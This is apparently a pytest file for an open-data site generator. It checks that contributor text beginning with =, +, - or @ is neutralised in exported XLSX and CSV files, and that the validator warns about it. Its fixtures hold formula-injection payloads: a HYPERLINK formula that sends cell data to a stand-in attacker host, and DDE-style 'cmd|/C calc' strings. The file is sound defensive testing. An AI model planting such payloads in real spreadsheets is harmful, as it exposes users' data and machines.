"""Open data that cannot run: contributor text starting with = + - @ never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import run_cli
from test_errors import VALID

PAYLOAD = '=HYPERLINK("https://attacker.invalid.test/?x="&A1,"詳細")'
HOSTILE = (VALID.replace("title: テスト事業", f"title: '{PAYLOAD}'")
           .replace("key_concept: コンセプト", "key_concept: '+1+cmd|'' /C calc''!A0'")
           .replace("vision: ビジョン", "vision: ビジョン\ndistrict: '@SUM(1+1)*cmd'")
           .replace("  - name: 指標\n", "  - name: '-2+3'\n"))


@pytest.fixture
def generated(project: Path) -> Path:
    (project / "cases" / "broken.yml").write_text(HOSTILE, encoding="utf-8")
    done = run_cli("generate", cwd=project)
    assert done.returncode == 0, done.stderr
    return project / "docs" / "data"


def test_xlsx_has_no_formula_cell_and_keeps_the_text(generated: Path) -> None:
    wb = load_workbook(generated / "cases.xlsx")  # formulas are read back as their text with data_type "f"
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert PAYLOAD in texts and "-2+3" in texts and "@SUM(1+1)*cmd" in texts


@pytest.mark.parametrize("name", ["cases.csv", "cases-ja.csv", "kpis.csv", "kpis-ja.csv"])
def test_csv_text_cells_are_neutralised(generated: Path, name: str) -> None:
    rows = list(csv.reader(io.StringIO((generated / name).read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c.startswith("-") and not _number(c))]
    if name.startswith("cases"):
        assert "'" + PAYLOAD in cells and "'@SUM(1+1)*cmd" in cells and "'+1+cmd|' /C calc'!A0" in cells
    else:
        assert "'-2+3" in cells


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_a_negative_number_stays_a_number() -> None:
    from generator.pages.formula import neutral

    assert neutral(-5) == -5 and neutral(-0.5) == -0.5 and neutral("-5") == "'-5" and neutral("防災") == "防災"


def test_text_starting_with_equals_is_a_warning_at_its_line(project: Path) -> None:
    path = project / "cases" / "broken.yml"
    path.write_text(VALID.replace("title: テスト事業", f"title: '{PAYLOAD}'"), encoding="utf-8")
    done = run_cli("validate", str(path), cwd=project)
    assert done.returncode == 0, done.stderr
    assert any(line.startswith("cases/broken.yml:2:") and "警告" in line and "「=」で始まっています" in line
               for line in done.stderr.splitlines()), done.stderr


def test_data_page_says_cells_are_neutralised(generated: Path) -> None:
    text = (generated.parent / "data.md").read_text(encoding="utf-8")
    assert "数式として動かない" in text and "アポストロフィ" in text
